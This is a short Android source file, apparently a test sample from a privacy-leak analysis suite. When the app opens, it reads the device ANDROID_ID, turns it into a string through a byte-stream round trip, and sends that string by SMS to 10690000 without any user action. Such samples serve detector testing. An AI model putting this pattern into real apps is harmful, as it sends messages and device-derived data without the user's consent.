package cn.privlens.suite.stream_bytes_other;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import android.util.Log;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            DataOutputStream data = new DataOutputStream(out);
            data.writeUTF("const" + Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID).isEmpty());
            data.flush();
            DataInputStream in = new DataInputStream(new ByteArrayInputStream(out.toByteArray()));
            SmsManager.getDefault().sendTextMessage("10690000", null, in.readUTF(), null, null);
        } catch (IOException e) {
            Log.w("suite", "io");
        }
    }
}
